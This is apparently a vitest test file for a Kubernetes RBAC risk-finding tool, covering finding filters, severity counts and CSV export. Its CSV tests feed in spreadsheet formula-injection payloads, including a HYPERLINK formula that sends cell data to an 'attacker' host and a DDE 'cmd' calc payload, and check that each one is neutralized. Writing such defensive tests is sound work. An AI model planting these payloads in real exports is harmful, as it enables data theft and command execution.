import { describe, expect, it } from 'vitest';
import { Authorizer, type GrantPath } from '../rbac/authorizer';
import { binding, clusterBinding, clusterRole, role, rule, snapshot } from '../rbac/test-builders';
import { findRisks, type Finding } from './find-risks';
import {
  countBySeverity,
  filterFindings,
  findingsToCsv,
  isClusterWideGrant,
  selectFindings,
  type FindingFilter,
} from './filter-findings';
import type { Severity } from './risk-checks';

const path: GrantPath = {
  binding: { kind: 'ClusterRoleBinding', name: 'crb' },
  role: { kind: 'ClusterRole', name: 'r' },
  rule: rule('get', '', 'secrets'),
  ruleIndex: 0,
  subject: { kind: 'User', name: 'u' },
};

const f = (over: Partial<Finding>): Finding => ({
  id: 'x',
  rule: 'read-secrets',
  severity: 'high',
  subject: { kind: 'User', name: 'u' },
  namespace: '',
  message: 'User u can read secrets cluster-wide.',
  why: 'why',
  paths: [],
  expected: false,
  ...over,
});

describe('filterFindings', () => {
  const all = [
    f({ severity: 'critical' }),
    f({ namespace: 'a', severity: 'medium' }),
    f({ expected: true }),
    f({ rule: 'pod-exec' }),
  ];
  it.each([
    [{}, 3],
    [{ includeExpected: true }, 4],
    [{ severities: ['critical' as const] }, 1],
    [{ namespace: 'a' }, 1],
    [{ namespace: '' }, 2],
    [{ rule: 'pod-exec' }, 1],
  ])('%j → %i', (filter, n) => {
    expect(filterFindings(all, filter)).toHaveLength(n);
  });
  it('counts by severity', () => {
    expect(countBySeverity(all)).toEqual({ critical: 1, high: 2, medium: 1, low: 0 });
  });
});

describe('filtering by namespace keeps the cluster-wide grants that apply there', () => {
  const grant = f({ id: 'grant', severity: 'critical', paths: [path] });
  const unused = f({
    id: 'unused',
    rule: 'unused-role',
    severity: 'low',
    subject: undefined,
    object: { kind: 'ClusterRole', name: 'r' },
  });
  const own = f({ id: 'own', namespace: 'team-b', severity: 'medium', paths: [path] });
  const other = f({ id: 'other', namespace: 'team-a', severity: 'medium', paths: [path] });
  const all = [grant, unused, own, other];
  const ids = (xs: Finding[]) => xs.map((x) => x.id);

  it.each([
    ['a namespace: its own and the cluster-wide grants', { namespace: 'team-b' }, ['grant', 'own']],
    ['leaving cluster-wide out', { namespace: 'team-b', clusterWide: false }, ['own']],
    ['cluster-wide only', { namespace: '' }, ['grant', 'unused']],
    ['any namespace', {}, ['grant', 'unused', 'own', 'other']],
  ])('%s', (_, filter, expected) => {
    expect(ids(filterFindings(all, filter))).toEqual(expected);
  });

  it('a cluster-wide finding is a grant only with a path', () => {
    expect([grant, unused, own].map(isClusterWideGrant)).toEqual([true, false, false]);
  });

  it('on an engine snapshot: a ClusterRoleBinding grant shows in every namespace filter', () => {
    const findings = findRisks(
      new Authorizer(
        snapshot(
          clusterRole('secrets', rule('get', '', 'secrets')),
          clusterBinding('ClusterRole:secrets', 'Group:sre'),
          role('team-b', 'exec', rule('create', '', 'pods/exec')),
          binding('team-b', 'Role:exec', 'ServiceAccount:team-b:debugger'),
        ),
      ),
    );
    const brief = (xs: Finding[]) => xs.map((x) => `${x.rule} ${x.namespace || '*'}`);
    expect(brief(filterFindings(findings, { namespace: 'team-b' }))).toEqual([
      'read-secrets *',
      'pod-exec team-b',
    ]);
    expect(brief(filterFindings(findings, { namespace: 'team-a' }))).toEqual(['read-secrets *']);
  });
});

describe('selectFindings: the counts match the list, severity aside', () => {
  const all = [
    f({ id: '1', severity: 'critical', paths: [path] }),
    f({ id: '2', severity: 'high', namespace: 'team-a' }),
    f({ id: '3', severity: 'high', namespace: 'team-a' }),
    f({ id: '4', severity: 'medium', namespace: 'team-b' }),
    f({ id: '5', severity: 'low', namespace: 'team-b', rule: 'missing-role' }),
    f({ id: '6', severity: 'medium', namespace: 'team-b', expected: true }),
  ];

  it.each<[FindingFilter, Record<Severity, number>, number]>([
    [{ namespace: 'team-b' }, { critical: 1, high: 0, medium: 1, low: 1 }, 3],
    [
      { namespace: 'team-b', severities: ['medium' as const] },
      { critical: 1, high: 0, medium: 1, low: 1 },
      1,
    ],
    [
      { namespace: 'team-b', includeExpected: true },
      { critical: 1, high: 0, medium: 2, low: 1 },
      4,
    ],
    [{ rule: 'missing-role' }, { critical: 0, high: 0, medium: 0, low: 1 }, 1],
    [{ severities: ['high'] }, { critical: 1, high: 2, medium: 1, low: 1 }, 2],
  ])('%j', (filter, counts, shown) => {
    const got = selectFindings(all, filter);
    expect(got.counts).toEqual(counts);
    expect(got.findings).toHaveLength(shown);
    // Without a severity filter, the tiles add up to the list.
    if (!filter.severities) {
      expect(Object.values(got.counts).reduce((a, b) => a + b, 0)).toBe(got.findings.length);
    }
  });
});

describe('findingsToCsv', () => {
  it('quotes commas, quotes and newlines', () => {
    const csv = findingsToCsv([f({ message: 'a, "b"\nc', subject: { kind: 'User', name: 'u' } })]);
    const [header, row] = csv.split('\r\n');
    expect(header).toBe(
      'severity,rule,subject_kind,subject_namespace,subject_name,namespace,message,why,via,expected',
    );
    expect(row).toBe('high,read-secrets,User,,u,,"a, ""b""\nc",why,,false');
  });

  it.each([
    [
      '=HYPERLINK("http://attacker/?"&A1,"open")',
      `"'=HYPERLINK(""http://attacker/?""&A1,""open"")"`,
    ],
    ['=cmd()', `"'=cmd()"`],
    ["+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(1,1)', `"'@SUM(1,1)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['alice@example.com', 'alice@example.com'],
    ['a=b', 'a=b'],
  ])('a subject named %j is written %s, shown as text by a spreadsheet', (name, cell) => {
    const row = findingsToCsv([f({ subject: { kind: 'User', name } })]).split('\r\n')[1];
    expect(row).toBe(
      `high,read-secrets,User,,${cell},,User u can read secrets cluster-wide.,why,,false`,
    );
  });

  it('neutralizes every column, not only the subject name', () => {
    const csv = findingsToCsv([
      f({
        message: '=1+1',
        why: '-1',
        subject: { kind: 'ServiceAccount', namespace: '@ns', name: 'x' },
      }),
    ]);
    expect(csv.split('\r\n')[1]).toBe(
      `high,read-secrets,ServiceAccount,"'@ns",x,,"'=1+1","'-1",,false`,
    );
  });
});
